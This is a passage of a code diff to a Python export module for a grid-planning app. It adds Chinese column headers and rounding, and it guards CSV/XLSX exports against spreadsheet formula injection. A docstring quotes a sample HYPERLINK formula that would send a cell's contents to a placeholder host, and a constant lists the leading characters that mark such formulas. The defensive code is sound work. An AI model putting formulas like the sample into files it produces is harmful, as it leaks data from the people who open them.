@@ -24,7 +24,8 @@ from sqlalchemy.orm import Session
 from api.models import Building, PlanAssignment, PlanGrid
 from api.plans.state import PlanRequestError, table_of
 
-__all__ = ["EXPORT_FORMATS", "Export", "grids_frame", "buildings_frame", "grid_statistics", "export_plan"]
+__all__ = ["EXPORT_FORMATS", "HEADER_STYLES", "Export", "grids_frame", "buildings_frame", "grid_statistics",
+           "buildings_table", "neutralise_formula", "export_plan"]
 
 log = logging.getLogger(__name__)
 
@@ -45,6 +46,18 @@ STAT_HEADERS = {"grid_id": "网格ID", "code": "网格编码", "name": "名称",
                 "exclusive": "专属网格", "status": "户数状态", "flags": "标记"}
 _SHP_NAMES = {"community_id": "comm_id", "polsby_popper": "polsby", "street_share": "street_shr",
               "building_id": "build_id", "grid_code": "grid_code"}
+BUILDING_COLUMNS = ["building_id", "grid_id", "grid_code", "cell_id", "households", "name"]
+BUILDING_HEADERS = {"building_id": "楼栋ID", "grid_id": "网格ID", "grid_code": "网格编码", "cell_id": "单元ID",
+                    "households": "户数", "name": "名称"}
+#: Chinese values of the statistics table (the canonical ones on request).
+STATUS_ZH = {"in": "达标", "under": "低于下限", "over": "超过上限", "exclusive": "专属网格"}
+FLAGS_ZH = {"over_max": "超过上限", "under_min": "低于下限", "compound_split": "小区被分割",
+            "exclusive": "专属网格", "oversize_unit": "单元超过上限", "empty": "无住户", "locked": "锁定",
+            "approximate": "社区边界为近似"}
+#: Header styles of CSV/XLSX exports: Chinese for people (default), canonical names for programs.
+HEADER_STYLES = ("zh", "canonical")
+#: Leading characters that make a spreadsheet cell a formula (CSV/formula injection).
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 
 
 @dataclass(frozen=True)
@@ -96,10 +109,73 @@ def buildings_frame(session: Session, plan_id: int) -> gpd.GeoDataFrame:
     return gpd.GeoDataFrame(df, geometry=gpd.GeoSeries(geom, crs=4326), crs=4326)
 
 
-def grid_statistics(grids: gpd.GeoDataFrame) -> pd.DataFrame:
-    """Per-grid statistics table (no geometry), columns in ``GRID_COLUMNS`` order."""
+def grid_statistics(grids: gpd.GeoDataFrame, *, headers: str = "zh") -> pd.DataFrame:
+    """Per-grid statistics table (no geometry), columns in ``GRID_COLUMNS`` order.
+
+    Area in whole m², Polsby–Popper and street share to 3 decimals. ``headers="zh"``
+    (default) gives Chinese column names and values (达标, 是/否 …) for people opening the
+    file in Excel; ``"canonical"`` keeps the canonical names and values for programs.
+    """
     cols = [c for c in GRID_COLUMNS if c in grids.columns]
-    return pd.DataFrame(grids[cols]).reset_index(drop=True)
+    out = pd.DataFrame(grids[cols]).reset_index(drop=True)
+    if "area_m2" in out.columns:
+        out["area_m2"] = out["area_m2"].round(0).astype("Int64")
+    for c in ("polsby_popper", "street_share"):
+        if c in out.columns:
+            out[c] = out[c].astype(float).round(3)
+    if _header_style(headers) == "canonical":
+        return out
+    for c in ("locked", "exclusive"):
+        if c in out.columns:
+            out[c] = np.where(out[c].astype(bool), "是", "否")
+    if "status" in out.columns:
+        out["status"] = out["status"].map(STATUS_ZH).fillna(out["status"])
+    if "flags" in out.columns:
+        out["flags"] = out["flags"].fillna("").astype(str).map(_flags_zh)
+    return out.rename(columns=STAT_HEADERS)
+
+
+def _header_style(headers: str) -> str:
+    if headers not in HEADER_STYLES:
+        raise PlanRequestError(400, "bad_headers", f"未知的表头样式 headers={headers!r}",
+                               "headers 取值：zh（中文表头，默认）、canonical（英文字段名）")
+    return headers
+
+
+def _flags_zh(text: str) -> str:
+    parts = [p for p in text.replace(";", ",").split(",") if p.strip()]
+    return "、".join(FLAGS_ZH.get(p.strip(), p.strip()) for p in parts)
+
+
+def neutralise_formula(value: object) -> object:
+    """*value*, prefixed with ``'`` when it is text a spreadsheet would run as a formula.
+
+    Names come from people's files and edits: ``=HYPERLINK("http://x"&A1,"点击")`` as a
+    grid name must stay text in Excel/WPS (OWASP CSV injection). Numbers are left alone.
+
+    Examples
+    --------
+    >>> neutralise_formula("=1+2"), neutralise_formula(-3), neutralise_formula("3号楼")
+    ("'=1+2", -3, '3号楼')
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
+        return "'" + value
+    return value
+
+
+def _safe_table(df: pd.DataFrame) -> pd.DataFrame:
+    """Every text cell of *df* neutralised (see :func:`neutralise_formula`)."""
+    out = df.copy()
+    for c in out.columns:
+        if out[c].dtype == object or pd.api.types.is_string_dtype(out[c]):
+            out[c] = out[c].map(neutralise_formula, na_action="ignore")
+    return out
+
+
+def buildings_table(buildings: gpd.GeoDataFrame, *, headers: str = "zh") -> pd.DataFrame:
+    """Building → grid table (no geometry) with Chinese or canonical headers."""
+    out = pd.DataFrame(buildings[BUILDING_COLUMNS]).reset_index(drop=True)
+    return out if _header_style(headers) == "canonical" else out.rename(columns=BUILDING_HEADERS)
 
 
 def _shp_zip(layers: dict[str, gpd.GeoDataFrame], tmp: Path) -> bytes:
@@ -122,44 +198,55 @@ def _kml(layers: dict[str, gpd.GeoDataFrame], path: Path) -> bytes:
     return path.read_bytes()
 
 
-def _xlsx(stats: pd.DataFrame, buildings: gpd.GeoDataFrame) -> bytes:
+def _cell(v: object) -> object:
+    if v is None or (isinstance(v, float) and v != v) or v is pd.NA:
+        return None
+    return neutralise_formula(v.item() if hasattr(v, "item") else v)
+
+
+def _xlsx(stats: pd.DataFrame, buildings: pd.DataFrame) -> bytes:
     from openpyxl import Workbook
 
     wb = Workbook()
     ws = wb.active
     ws.title = "网格统计"
-    ws.append([STAT_HEADERS.get(c, c) for c in stats.columns])
-    for row in stats.itertuples(index=False):
-        ws.append([None if isinstance(v, float) and v != v else (v.item() if hasattr(v, "item") else v) for v in row])
-    wb2 = wb.create_sheet("楼栋归属")
-    cols = ["building_id", "grid_id", "grid_code", "cell_id", "households", "name"]
-    wb2.append(cols)
-    for row in buildings[cols].itertuples(index=False):
-        wb2.append([None if v is None or (isinstance(v, float) and v != v) else
-                    (v.item() if hasattr(v, "item") else v) for v in row])
+    for sheet, table in ((ws, stats), (wb.create_sheet("楼栋归属"), buildings)):
+        sheet.append([str(c) for c in table.columns])
+        for row in table.itertuples(index=False):
+            sheet.append([_cell(v) for v in row])
+        for cell in sheet[1]:
+            cell.data_type = "s"  # headers are text, never formulas
     buf = io.BytesIO()
     wb.save(buf)
     return buf.getvalue()
 
 
 def export_plan(session: Session, plan_id: int, fmt: str, *, bounds: tuple[int, int],
-                layer: str = "grids") -> Export:
-    """Export plan *plan_id* in format *fmt* (see :data:`EXPORT_FORMATS`)."""
+                layer: str = "grids", headers: str = "zh") -> Export:
+    """Export plan *plan_id* in format *fmt* (see :data:`EXPORT_FORMATS`).
+
+    CSV and XLSX are for people: Chinese headers and values unless ``headers="canonical"``,
+    rounded numbers, every text cell safe from formula injection; the CSV is UTF-8 with a
+    BOM so that Excel reads the Chinese. Shapefiles come as one zip of both layers.
+    """
     if fmt not in EXPORT_FORMATS:
         raise PlanRequestError(400, "bad_format", f"不支持的导出格式 {fmt!r}",
                                f"format 取值：{', '.join(EXPORT_FORMATS)}")
     if layer not in ("grids", "buildings"):
         raise PlanRequestError(400, "bad_layer", f"未知图层 layer={layer!r}", "layer 取值：grids、buildings")
     suffix, mime = EXPORT_FORMATS[fmt]
+    _header_style(headers)
     grids = grids_frame(session, plan_id, bounds=bounds)
-    stats = grid_statistics(grids)
     name = f"plan_{plan_id}" + (f"_{layer}" if fmt == "geojson" else "")
     if fmt == "csv":
-        return Export(stats.to_csv(index=False).encode("utf-8-sig"), name + suffix, mime)
+        stats = _safe_table(grid_statistics(grids, headers=headers))
+        # RFC 4180 line ends: a cell holding a lone CR is quoted, not split into two rows
+        return Export(stats.to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig"), name + suffix, mime)
     buildings = buildings_frame(session, plan_id)
     layers = {"grids": grids[GRID_COLUMNS + ["geometry"]], "buildings": buildings}
     if fmt == "xlsx":
-        return Export(_xlsx(stats, buildings), name + suffix, mime)
+        return Export(_xlsx(grid_statistics(grids, headers=headers), buildings_table(buildings, headers=headers)),
+                      name + suffix, mime)
     with tempfile.TemporaryDirectory(prefix="wangge-export-") as d:
         tmp = Path(d)
         path = tmp / (name + suffix)
